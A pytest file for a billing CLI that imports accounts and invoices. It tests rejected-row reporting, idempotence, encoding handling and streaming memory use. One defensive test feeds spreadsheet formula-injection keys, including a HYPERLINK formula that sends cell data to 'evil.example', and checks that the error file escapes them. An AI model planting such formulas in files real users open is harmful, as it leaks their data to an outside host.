"""The `billing-adapter import` command as a user runs it, and its constant memory."""

from __future__ import annotations

import asyncio
import csv
import getpass
import json
import os
import subprocess
import sys
from pathlib import Path

import asyncpg
import pytest

CLI = [sys.executable, "-m", "billing_adapter.cli", "import"]


def cli(billing_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "DATABASE_URL": billing_url, "COLUMNS": "120"}
    return subprocess.run(
        [*CLI, *args], env=env, capture_output=True, text=True, timeout=120, check=False
    )


async def count(billing_url: str, sql: str) -> int:
    conn = await asyncpg.connect(billing_url)
    try:
        return int(await conn.fetchval(sql))
    finally:
        await conn.close()


async def test_the_cli_imports_reports_rejected_rows_and_is_idempotent(billing_url, tmp_path):
    accounts = tmp_path / "customers.csv"
    accounts.write_text(
        "external_id,name,currency,payment_terms_days\nCUS-1,Acme,USD,30\nCUS-2,Globex,USD,15\n",
        encoding="utf-8",
    )
    done = await asyncio.to_thread(cli, billing_url, "accounts", str(accounts))
    assert done.returncode == 0, done.stderr
    assert "read 2, imported 2, updated 0, unchanged 0, rejected 0" in done.stdout

    invoices = tmp_path / "invoices.jsonl"
    invoices.write_text(
        '{"external_id": "INV-1", "account_external_id": "CUS-1", "total_minor": 100, '
        '"issue_date": "2026-10-01"}\n'
        '{"external_id": "INV-2", "account_external_id": "CUS-2", "total_minor": 100, '
        '"issue_date": "2026-10-01", "due_date": "2026-09-01"}\n'
        '{"external_id": "INV-3", "account_external_id": "CUS-2", "total_minor": 250, '
        '"issue_date": "2026-10-02"}\n',
        encoding="utf-8",
    )
    errors = tmp_path / "rejected.csv"
    done = await asyncio.to_thread(
        cli, billing_url, "invoices", str(invoices), "--errors", str(errors)
    )
    assert done.returncode == 1, done.stderr  # some rows were rejected
    assert "read 3, imported 2, updated 0, unchanged 0, rejected 1" in done.stdout
    assert "row 2 (line 2) due_date: the due date is before the issue date" in done.stderr
    with errors.open(encoding="utf-8") as sink:
        assert list(csv.reader(sink)) == [
            ["row", "line", "field", "reason"],
            ["2", "2", "due_date", "the due date is before the issue date"],
        ]
    events = await count(billing_url, "SELECT count(*) FROM events")
    outbox = await count(billing_url, "SELECT count(*) FROM outbox")
    assert events == outbox == 4  # through the event store, so the relay publishes them
    by_user = f"cli:{getpass.getuser()}".replace("'", "''")
    assert (
        await count(billing_url, f"SELECT count(*) FROM events WHERE data->>'actor' = '{by_user}'")
        == events
    )

    again = await asyncio.to_thread(cli, billing_url, "invoices", str(invoices), "--quiet")
    assert "read 3, imported 0, updated 0, unchanged 2, rejected 1" in again.stdout
    assert await count(billing_url, "SELECT count(*) FROM events") == events


async def test_the_cli_refuses_a_file_it_cannot_read(billing_url, tmp_path):
    unknown = tmp_path / "invoices.txt"
    unknown.write_text("x\n", encoding="utf-8")
    done = await asyncio.to_thread(cli, billing_url, "invoices", str(unknown))
    assert done.returncode == 2 and "--format" in done.stderr
    assert await count(billing_url, "SELECT count(*) FROM events") == 0


async def test_a_row_that_is_not_utf8_is_rejected_and_a_bom_is_no_column(billing_url, tmp_path):
    """Found by the import fuzz: one Latin-1 byte refused the whole file, and a file saved
    with a byte-order mark was refused for an unknown column '\\ufeffexternal_id'."""
    mixed = tmp_path / "accounts.csv"
    mixed.write_bytes(
        b"\xef\xbb\xbfexternal_id,name,currency,payment_terms_days\r\n"
        + "CUS-1,Soci\xe9t\xe9,EUR,30\r\n".encode("latin-1")
        + "CUS-2,Société,EUR,30\r\n".encode()
    )
    errors = tmp_path / "errors.csv"
    done = await asyncio.to_thread(
        cli, billing_url, "accounts", str(mixed), "--quiet", "--errors", str(errors)
    )
    assert done.returncode == 1, done.stderr
    assert "read 2, imported 1, updated 0, unchanged 0, rejected 1" in done.stdout
    with errors.open(encoding="utf-8") as sink:
        [rejected] = list(csv.DictReader(sink))
    assert (rejected["row"], rejected["field"]) == ("1", "name")
    assert "not UTF-8" in rejected["reason"] and "e9" in rejected["reason"]
    assert await count(billing_url, "SELECT count(*) FROM events") == 1


async def test_the_error_file_never_hands_a_spreadsheet_a_formula(billing_url, tmp_path):
    """A rejected row's field is the file's own text when the key is unknown: a key like
    `=HYPERLINK(...)` went into the error file as a live formula for whoever opened it."""
    hostile = [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tcmd",
        "\rcmd",
    ]
    invoices = tmp_path / "invoices.jsonl"
    invoices.write_text(
        "".join(
            json.dumps(
                {
                    "external_id": f"INV-{n}",
                    "account_external_id": "CUS-1",
                    "total_minor": 100,
                    "issue_date": "2026-10-01",
                    key: 1,
                }
            )
            + "\n"
            for n, key in enumerate(hostile)
        ),
        encoding="utf-8",
    )
    errors = tmp_path / "rejected.csv"
    done = await asyncio.to_thread(
        cli, billing_url, "invoices", str(invoices), "--quiet", "--errors", str(errors)
    )
    assert done.returncode == 1, done.stderr
    with errors.open(encoding="utf-8", newline="") as sink:
        rows = list(csv.DictReader(sink))
    assert sorted(r["field"] for r in rows) == sorted(f"'{key}" for key in hostile)
    assert all(r["row"].isdigit() and r["line"].isdigit() for r in rows)


# Runs the CLI and reports the process's peak resident memory in kB (Linux ru_maxrss).
MEASURED = (
    "import resource, sys\n"
    "from billing_adapter.cli import app\n"
    "try:\n    app(sys.argv[1:])\n"
    "finally:\n"
    "    print('maxrss', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, "
    "file=sys.stderr)\n"
)


def invoices_file(path: Path, rows: int, accounts: int) -> Path:
    """JSON Lines invoices with two lines each: about 300 bytes a row."""
    with path.open("w", encoding="utf-8") as out:
        for i in range(rows):
            out.write(
                json.dumps(
                    {
                        "external_id": f"INV-{path.stem}-{i:07d}",
                        "account_external_id": f"CUS-{i % accounts}",
                        "total_minor": 3000,
                        "issue_date": "2026-10-01",
                        "due_date": "2026-11-15",
                        "lines": [
                            {
                                "description": f"Seats for workspace {i}",
                                "quantity": 2,
                                "unit_price_minor": 1000,
                            },
                            {
                                "description": "Support plan",
                                "quantity": 1,
                                "unit_price_minor": 1000,
                            },
                        ],
                    }
                )
                + "\n"
            )
    return path


def peak_rss_kb(billing_url: str, path: Path) -> int:
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            MEASURED,
            "import",
            "invoices",
            str(path),
            "--quiet",
            "--batch-size",
            "200",
        ],
        env={**os.environ, "DATABASE_URL": billing_url},
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return int(done.stderr.rsplit("maxrss", 1)[1])


@pytest.mark.timeout(900)
async def test_memory_stays_flat_however_long_the_file(billing_url, tmp_path):
    """Ten times the rows, no more memory: the file streams through in batches.

    Batches of 200 keep what a batch holds small beside the 5.7 MB the longer file adds
    (read whole, its rows alone would take several times that); 2,000 and 20,000 rows
    show it as 6,000 and 60,000 did in four times the time."""
    accounts = tmp_path / "accounts.csv"
    accounts.write_text(
        "external_id,name,currency,payment_terms_days\n"
        + "".join(f"CUS-{i},Customer {i},USD,30\n" for i in range(1000)),
        encoding="utf-8",
    )
    assert (await asyncio.to_thread(cli, billing_url, "accounts", str(accounts))).returncode == 0
    short = invoices_file(tmp_path / "short.jsonl", 2_000, 1000)
    long = invoices_file(tmp_path / "long.jsonl", 20_000, 1000)
    short_kb = await asyncio.to_thread(peak_rss_kb, billing_url, short)
    long_kb = await asyncio.to_thread(peak_rss_kb, billing_url, long)
    assert (
        await count(billing_url, "SELECT count(*) FROM external_ids WHERE kind = 'invoice'")
        == 22_000
    )
    growth = (long_kb - short_kb) * 1024
    extra_file = long.stat().st_size - short.stat().st_size
    assert extra_file > 5_000_000
    assert growth < extra_file / 5, (short_kb, long_kb, extra_file)
